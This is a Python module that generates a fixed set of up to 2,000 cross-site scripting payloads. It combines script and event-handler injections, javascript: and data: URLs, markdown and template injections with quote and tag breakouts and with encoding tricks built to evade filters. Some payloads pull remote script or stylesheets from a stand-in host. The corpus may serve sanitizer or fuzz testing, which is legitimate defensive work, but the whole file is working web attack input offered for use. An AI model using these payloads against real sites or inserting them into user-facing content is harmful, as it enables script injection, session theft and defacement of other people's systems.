"""Two thousand texts that want to run: what starts a script, behind what leaves the place it stands
in, in many disguises.
"""

from collections.abc import Callable
from functools import cache
from itertools import product
from typing import Final

HOW_MANY: Final = 2000
LONGEST: Final = 78  # letters: so that each fits into nearly every field

_STARTS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<math><mi><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import'//x/a.css'</style>",
    "<link rel=stylesheet href=//x/a.css>",
    "<base href=//x/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><input type=submit autofocus>",
    "<button formaction=javascript:alert(1)>x",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(//x/a)' onmouseover=alert(1)>",
    "[kata](javascript:alert(1))",
    '[kata](https://x.id/"onmouseover=alert(1))',
    '![x](x"onerror="alert(1))',
    'https://x.id/"onfocus=alert(1)/autofocus="',
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "onfocus=alert(1) autofocus x=",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}${alert(1)}#{alert(1)}",
    "[foto 1]<script>alert(1)</script>",
    # Short ones, for the narrow fields.
    "<svg/onload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<script>alert`1`</script>",
    "<script src=//x/a></script>",
    "<a href=javascript:alert(1)>x",
    "<p onmouseover=alert(1)>x",
    "<b id=x tabindex=1 onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<i onpointerover=alert(1)>x",
    "<q oncut=alert(1)>x",
    "onclick=alert(1) x=",
    "onload=alert(1)//",
)
_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    '" ',
    "' ",
    '\\"',
    "\n",
    "&quot;>",
)
_DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: text.replace("script", "ScRiPt").replace("alert", "\u0061lert"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace("(", "&#x28;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "<\u200b").replace("=", "\u00ad="),
    lambda text: text.replace("javascript:", "java\tscript:").replace(" on", "/on"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<<").replace("onerror", "\u202eonerror"),
)


@cache
def payloads(longest: int = LONGEST) -> list[str]:
    """All that have at most so many letters, or 2,000 of them; the same at every run."""
    made = dict.fromkeys(
        way + disguise(start) for disguise, way, start in product(_DISGUISES, _WAYS_OUT, _STARTS)
    )
    short = [each for each in made if len(each) <= longest]
    step = max(1.0, len(short) / HOW_MANY)
    return [short[int(number * step)] for number in range(min(HOW_MANY, len(short)))]
